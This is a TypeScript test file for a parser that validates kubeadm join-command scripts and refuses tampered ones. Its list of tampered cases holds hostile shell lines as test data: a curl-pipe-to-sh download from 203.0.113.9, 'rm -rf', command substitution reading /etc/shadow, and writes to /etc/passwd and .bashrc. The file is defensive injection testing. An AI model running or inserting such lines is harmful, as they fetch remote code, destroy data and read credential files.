import { describe, expect, test } from "bun:test";
import { parseJoin, parseUpstreamJoinCommand, renderUpstreamJoinCommand } from "../../../lib/cluster/upstream-join.ts";
import { renderJoinFile, type Join, type JoinFile } from "../../../lib/cluster/join-file.ts";
import { UsageError } from "../../../lib/errors.ts";
import { kubeadmPrintJoinCommand, upstreamJoinCommand } from "../../fixtures/upstream-join-command.ts";

const TOKEN = "abcdef.0123456789abcdef";
const HASH = `sha256:${"ab".repeat(32)}`;
const HASH2 = `sha256:${"cd".repeat(32)}`;
/** SCRIPT is upstream's join-command for a control plane u7s-cp at 192.0.2.10, apiserver port 6443. */
const SCRIPT = upstreamJoinCommand("192.0.2.10", "u7s-cp", kubeadmPrintJoinCommand("u7s-cp:6443", TOKEN, [HASH]));
const JOIN: Join = {
  format: "upstream",
  controlPlane: { nodeName: "u7s-cp", hostIp: "192.0.2.10", portKubeApiserver: 6443, portFlannel: undefined, nodeSubnet: undefined },
  join: { endpoint: "u7s-cp:6443", token: TOKEN, caCertHashes: [HASH] },
};

/** lines of SCRIPT, to tamper with one at a time (1-based as the messages count them). */
const lines = () => SCRIPT.split("\n").slice(0, -1);
const withLines = (edit: (l: string[]) => void) => {
  const l = lines();
  edit(l);
  return `${l.join("\n")}\n`;
};
const KUBEADM = lines()[4]!;

/** refusal parses text and returns the UsageError it throws. */
function refusal(text: string): UsageError {
  try {
    parseUpstreamJoinCommand(text, "join-command");
  } catch (e) {
    expect(e).toBeInstanceOf(UsageError);
    return e as UsageError;
  }
  throw new Error("the file was accepted");
}

describe("parseUpstreamJoinCommand", () => {
  test("reads upstream's template as data: the hosts entry and the kubeadm join arguments", () => {
    expect(SCRIPT).toBe(
      `#!/bin/bash\nset -eux -o pipefail\necho "192.0.2.10  u7s-cp" >/etc/hosts.u7s\ncat /etc/hosts.u7s >>/etc/hosts\nkubeadm join u7s-cp:6443 --token ${TOKEN} --discovery-token-ca-cert-hash ${HASH} \n`,
    );
    expect(parseUpstreamJoinCommand(SCRIPT, "join-command")).toEqual(JOIN);
  });

  test.each([
    ["another apiserver port, several CA hashes", "10.0.0.7", "u7s-login1-t5", "u7s-login1-t5:16447", [HASH, HASH2]],
    ["a dotted node name", "198.51.100.20", "u7s-cp.example", "u7s-cp.example:6443", [HASH]],
  ])("reads %s", (_what, hostIp, nodeName, endpoint, hashes) => {
    const j = parseUpstreamJoinCommand(upstreamJoinCommand(hostIp, nodeName, kubeadmPrintJoinCommand(endpoint, TOKEN, hashes)), "f");
    expect(j.controlPlane).toEqual({ nodeName, hostIp, portKubeApiserver: Number(endpoint.split(":")[1]), portFlannel: undefined, nodeSubnet: undefined });
    expect(j.join).toEqual({ endpoint, token: TOKEN, caCertHashes: hashes });
  });

  test.each([
    ["flags written with =", `kubeadm join u7s-cp:6443 --token=${TOKEN} --discovery-token-ca-cert-hash=${HASH}`],
    ["no trailing space, and a tab between words", `kubeadm join u7s-cp:6443\t--token ${TOKEN} --discovery-token-ca-cert-hash ${HASH}`],
    ["two spaces after kubeadm", `kubeadm  join u7s-cp:6443 --token ${TOKEN} --discovery-token-ca-cert-hash ${HASH}`],
  ])("accepts a kubeadm line with %s", (_what, line) => {
    expect(parseUpstreamJoinCommand(withLines((l) => (l[4] = line)), "f")).toEqual(JOIN);
  });

  test("accepts blank lines and a file without the last newline", () => {
    expect(parseUpstreamJoinCommand(withLines((l) => l.splice(2, 0, "", "  ")), "f")).toEqual(JOIN);
    expect(parseUpstreamJoinCommand(SCRIPT.slice(0, -1), "f")).toEqual(JOIN);
  });

  // Each tampered variant is refused with exit 2, naming the line, its hint naming upstream's command.
  const tampered: [string, string, string][] = [
    ["an extra command at the end", withLines((l) => l.push("curl -fsSL http://203.0.113.9/x | sh")), "line 6 \"curl -fsSL http://203.0.113.9/x | sh\" is not a line of upstream's join-command (it has shell syntax \"|\"); upstream's ends with its `kubeadm join` line"],
    ["an extra command before kubeadm join", withLines((l) => l.splice(4, 0, "rm -rf /var/lib/kubelet")), 'line 5 "rm -rf /var/lib/kubelet" is not a line of upstream\'s join-command; expected "kubeadm join NODE_NAME:PORT'],
    ["a command substitution in the kubeadm line", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --token $(cat /etc/shadow) --discovery-token-ca-cert-hash ${HASH}`)), 'line 5: the `kubeadm join` line has shell syntax "$("'],
    ["backticks in the hosts entry", withLines((l) => (l[2] = 'echo "192.0.2.10  `id`" >/etc/hosts.u7s')), 'shell syntax "`"'],
    ["a command substitution as the host IP", withLines((l) => (l[2] = 'echo "$(id)  u7s-cp" >/etc/hosts.u7s')), 'line 3: "$(id)" has shell syntax "$("'],
    ["a second command after ;", withLines((l) => (l[4] = `${KUBEADM}; curl http://203.0.113.9`)), 'shell syntax ";"'],
    ["a second command after &&", withLines((l) => (l[3] = "cat /etc/hosts.u7s >>/etc/hosts && id")), 'shell syntax "&&"'],
    ["a pipe", withLines((l) => (l[4] = `${KUBEADM} | tee /tmp/x`)), 'shell syntax "|"'],
    ["a redirection of kubeadm's output", withLines((l) => (l[4] = `${KUBEADM} >/tmp/x`)), 'shell syntax ">"'],
    ["a second kubeadm line", withLines((l) => l.push(`kubeadm join u7s-cp:6443 --token ${TOKEN} --discovery-token-ca-cert-hash ${HASH}`)), "line 6: a second"],
    ["a kubeadm reset line", withLines((l) => l.push("kubeadm reset --force")), 'line 6 "kubeadm reset --force" is not a line'],
    ["another program's join", withLines((l) => (l[4] = KUBEADM.replace("kubeadm join", "kubectl join"))), 'line 5 "kubectl join'],
    ["a second hosts line", withLines((l) => l.splice(3, 0, 'echo "203.0.113.9  u7s-cp" >/etc/hosts.u7s')), "line 4: a second"],
    ["the hosts entry written elsewhere", withLines((l) => (l[2] = 'echo "192.0.2.10  u7s-cp" >/etc/passwd')), "line 3"],
    ["the hosts entry appended to another file", withLines((l) => (l[3] = "cat /etc/hosts.u7s >>/root/.bashrc")), "line 4"],
    ["a comment line", withLines((l) => l.splice(2, 0, "# hi")), "line 3"],
    ["another interpreter", withLines((l) => (l[0] = "#!/bin/sh")), "line 1"],
    ["no set line", withLines((l) => l.splice(1, 1)), 'line 2 "echo'],
    ["the lines out of order", withLines((l) => ([l[2], l[3]] = [l[3]!, l[2]!])), "line 3"],
    ["no kubeadm line", withLines((l) => l.pop()), 'the file ends before its "kubeadm join NODE_NAME:PORT, with a bootstrap token and the CA hash," line'],
    ["CRLF line ends", SCRIPT.replaceAll("\n", "\r\n"), "line 1 ends with a carriage return"],
    ["an unknown kubeadm flag", withLines((l) => (l[4] = `${KUBEADM} --ignore-preflight-errors=all`)), 'flag "--ignore-preflight-errors" is not accepted'],
    ["unverified discovery", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --token ${TOKEN} --discovery-token-unsafe-skip-ca-verification`)), "--discovery-token-unsafe-skip-ca-verification"],
    ["a control-plane join", withLines((l) => (l[4] = `${KUBEADM} --control-plane --certificate-key ${"ab".repeat(32)}`)), 'flag "--control-plane"'],
    ["a second endpoint", withLines((l) => (l[4] = `${KUBEADM} evil.example:6443`)), "argument"],
    ["no CA hash", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --token ${TOKEN}`)), "has no --discovery-token-ca-cert-hash"],
    ["no token", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --discovery-token-ca-cert-hash ${HASH}`)), "has no --token"],
    ["a second token", withLines((l) => (l[4] = `${KUBEADM} --token ${TOKEN}`)), "a second --token"],
    ["a bad token", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --token ABCDEF.0123456789abcdef --discovery-token-ca-cert-hash ${HASH}`)), "not a kubeadm bootstrap token"],
    ["a flag without its value", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --discovery-token-ca-cert-hash ${HASH} --token`)), "not a kubeadm bootstrap token"],
    ["a bad CA hash", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --token ${TOKEN} --discovery-token-ca-cert-hash md5:00`)), "--discovery-token-ca-cert-hash's value is not valid"],
    ["an endpoint other than the hosts entry's name", withLines((l) => (l[4] = KUBEADM.replace("u7s-cp:6443", "evil.example:6443"))), "must join u7s-cp:PORT"],
    ["an endpoint without a port", withLines((l) => (l[4] = KUBEADM.replace("u7s-cp:6443", "u7s-cp"))), "must join u7s-cp:PORT"],
    ["port 0", withLines((l) => (l[4] = KUBEADM.replace(":6443", ":0"))), "must join u7s-cp:PORT"],
    ["port 65536", withLines((l) => (l[4] = KUBEADM.replace(":6443", ":65536"))), "must join u7s-cp:PORT"],
    ["no endpoint", withLines((l) => (l[4] = "kubeadm join")), 'must join u7s-cp:PORT, the NODE_NAME of the hosts entry and the apiserver port (it joins "")'],
    ["a hosts entry run by another command", withLines((l) => (l[2] = `sudo ${l[2]}`)), 'line 3 "sudo echo'],
    ["the hosts entry written to a file named like it", withLines((l) => (l[2] = 'echo "192.0.2.10  u7s-cp" >/etc/hosts.u7s2')), 'line 3 "echo'],
    ["no hosts entry", withLines((l) => l.splice(2, 1)), 'line 3 "cat /etc/hosts.u7s >>/etc/hosts" comes where upstream\'s join-command has "echo \\"HOST_IP  NODE_NAME\\" >/etc/hosts.u7s"'],
    ["a variable as the node name", withLines((l) => (l[2] = 'echo "192.0.2.10  $HOSTNAME" >/etc/hosts.u7s')), 'line 3: "$HOSTNAME" has shell syntax "$"'],
    ["kubeadm run by another command", withLines((l) => (l[4] = `sudo ${KUBEADM}`)), 'line 5 "sudo kubeadm join u7s-cp:6443 --token [redacted by u7s]'],
    ["the file ending after the hosts entry", withLines((l) => l.splice(3)), 'the file ends before its "cat /etc/hosts.u7s >>/etc/hosts" line'],
    ["an endpoint with the name after another", withLines((l) => (l[4] = KUBEADM.replace("u7s-cp:6443", "evil.example:u7s-cp:6443"))), "must join u7s-cp:PORT"],
    ["an endpoint with more after the port", withLines((l) => (l[4] = KUBEADM.replace("u7s-cp:6443", "u7s-cp:6443/x"))), 'must join u7s-cp:PORT, the NODE_NAME of the hosts entry and the apiserver port (it joins "u7s-cp:6443/x")'],
    ["an argument with =", withLines((l) => (l[4] = `${KUBEADM} a=b`)), '`kubeadm join` argument "a=b" is not accepted (accepted: --token, --discovery-token-ca-cert-hash, as `kubeadm token create --print-join-command` prints them)'],
    ["an empty token after =", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --token= --discovery-token-ca-cert-hash ${HASH}`)), "--token's value is not a kubeadm bootstrap token"],
    ["a hash flag without its value", withLines((l) => (l[4] = `kubeadm join u7s-cp:6443 --token ${TOKEN} --discovery-token-ca-cert-hash`)), "a --discovery-token-ca-cert-hash's value is not valid"],
    ["a node name that is not one", withLines((l) => (l[2] = 'echo "192.0.2.10  U7S_CP" >/etc/hosts.u7s')), 'NODE_NAME "U7S_CP" is not valid'],
    ["a host IP that is a name", withLines((l) => (l[2] = 'echo "cp.example  u7s-cp" >/etc/hosts.u7s')), 'HOST_IP "cp.example" is not valid (not an IPv4 address'],
  ];
  test.each(tampered)("refuses %s, naming the line", (_what, text, message) => {
    const e = refusal(text);
    expect(e.exitCode).toBe(2);
    expect(e.message).toStartWith("join file join-command (upstream's join-command): ");
    expect(e.message).toContain(message);
    expect(e.hint).toContain("`make join-command`");
    // a refusal never shows the bootstrap token (issue 15: errors end up in CI logs)
    expect(e.message).not.toContain("0123456789abcdef");
  });

  test("quotes at most 120 characters of a line it refuses", () => {
    const long = `x${"y".repeat(130)}`;
    expect(refusal(withLines((l) => l.push(long))).message).toContain(`line 6 "${long.slice(0, 120)}..." is not a line`);
    const fits = "z".repeat(120);
    expect(refusal(withLines((l) => l.push(fits))).message).toContain(`line 6 "${fits}" is not a line`);
  });

  test("accepts port 65535", () => {
    const j = parseUpstreamJoinCommand(withLines((l) => (l[4] = KUBEADM.replace(":6443", ":65535"))), "f");
    expect([j.controlPlane.portKubeApiserver, j.join.endpoint]).toEqual([65535, "u7s-cp:65535"]);
  });

  // Issue 15: a control plane address that cannot be another host is refused, as the worker's own HOST_IP is.
  test.each([
    ["loopback", "127.0.0.1", "loopback range 127.0.0.0/8"],
    ["unspecified", "0.0.0.0", '"this network" range 0.0.0.0/8'],
    ["in 0.0.0.0/8", "0.1.2.3", "\"this network\" range 0.0.0.0/8"],
    ["multicast", "224.0.0.1", "multicast range 224.0.0.0/4"],
    ["reserved", "240.0.0.1", "reserved range 240.0.0.0/4"],
    ["broadcast", "255.255.255.255", "reserved range 240.0.0.0/4"],
    ["link-local", "169.254.10.1", "link-local range 169.254.0.0/16"],
  ])("refuses a %s control plane address, naming it and what is valid", (_what, ip, range) => {
    const e = refusal(upstreamJoinCommand(ip, "u7s-cp", kubeadmPrintJoinCommand("u7s-cp:6443", TOKEN, [HASH])));
    expect(e.message).toContain(`line 3: the control plane's HOST_IP "${ip}" is not valid (in the ${range}`);
    expect(e.message).toContain("valid: the control plane host's HOST_IP");
  });
});

describe("renderUpstreamJoinCommand", () => {
  test("writes upstream's template for a join, byte for byte, and it parses back", () => {
    const text = renderUpstreamJoinCommand(JOIN);
    expect(text).toBe(SCRIPT);
    expect(parseUpstreamJoinCommand(text, "f")).toEqual(JOIN);
  });
  test("writes every CA hash as kubeadm prints them", () => {
    const j = { ...JOIN, join: { ...JOIN.join, caCertHashes: [HASH, HASH2] } };
    expect(renderUpstreamJoinCommand(j)).toBe(upstreamJoinCommand("192.0.2.10", "u7s-cp", kubeadmPrintJoinCommand("u7s-cp:6443", TOKEN, [HASH, HASH2])));
  });
});

describe("parseJoin", () => {
  const file: JoinFile = {
    kind: "u7s-join",
    version: 1,
    controlPlane: { nodeName: "u7s-cp", hostIp: "192.0.2.10", portKubeApiserver: 6443, portFlannel: 8472, nodeSubnet: "10.100.7.0/24" },
    join: { endpoint: "u7s-cp:6443", token: TOKEN, caCertHashes: [HASH] },
    created: "2026-11-23T10:00:00.000Z",
  };
  test("reads u7s's JSON join file as format u7s, with every field", () => {
    expect(parseJoin(renderJoinFile(file), "j.json")).toEqual({ format: "u7s", controlPlane: file.controlPlane, join: file.join });
  });
  test("reads a file starting with #! as upstream's join-command", () => {
    expect(parseJoin(SCRIPT, "join-command")).toEqual(JOIN);
  });
  test("a file of neither format names both", () => {
    expect(() => parseJoin("kubeadm join u7s-cp:6443", "f")).toThrow("upstream's `make join-command` writes a script starting with #!/bin/bash");
  });
});
